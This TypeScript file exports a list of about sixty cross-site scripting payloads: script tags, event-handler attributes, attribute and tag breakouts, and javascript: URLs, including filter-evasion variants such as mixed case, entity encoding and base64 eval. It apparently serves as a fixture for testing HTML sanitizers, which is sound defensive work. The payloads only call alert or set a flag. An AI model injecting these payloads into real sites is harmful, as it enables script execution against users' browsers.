// Sixty texts that run a script when a page inserts them as HTML, as an attribute or as a URL. A
// control test proves this for each of them. A payload's script opens a dialog or sets
// `globalThis.ran`.

/** Elements that run a script without user action. */
const elements = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</ScRiPt>',
  '<script >ran=1</script >',
  '<script/x>ran=1</script>',
  '<script src=data:text/javascript,alert(1)></script>',
  '<script type=module>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href=data:text/javascript,alert(1) />',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>send</button></form>',
  '<button form=x formaction="javascript:alert(1)">send</button>',
  '<math><a xlink:href="javascript:alert(1)">text</a></math>',
]

/** Event handlers. */
const handlers = [
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<IMG SRC=x ONERROR=alert(1)>',
  '<img src=x onerror=alert`1`>',
  '<img src=x onerror=&#97;lert(1)>',
  '<img src=x onerror=ran=1>',
  "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
  '<img src=data:,x onerror=confirm(1)>',
  '<image src=x onerror=prompt(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set onbegin=alert(1) attributeName=x>',
  '<body onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video src=x onerror=alert(1)></video>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<marquee onstart=alert(1)>text</marquee>',
  '<a tabindex=0 onclick=alert(1)>text</a>',
  '<b onmouseover=alert(1)>text</b>',
  '<p style="animation:x" onanimationstart=alert(1)>',
  '<div contenteditable oninput=alert(1)>text</div>',
]

/** Texts that end the attribute, element or comment they are in. */
const endings = [
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" autofocus onfocus="alert(1)',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '</textarea><script>alert(1)</script>',
  '</title><svg onload=alert(1)>',
  '--><img src=x onerror=alert(1)>',
]

/** Script URLs. */
const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'javascript://%0aalert(1)',
  'javascript:void(ran=1)',
  'java\tscript:alert(1)',
  ' javascript:alert(1)',
  'data:text/html,<script>parent.ran=1</script>',
]

export const payloads: readonly string[] = [...elements, ...handlers, ...endings, ...addresses]
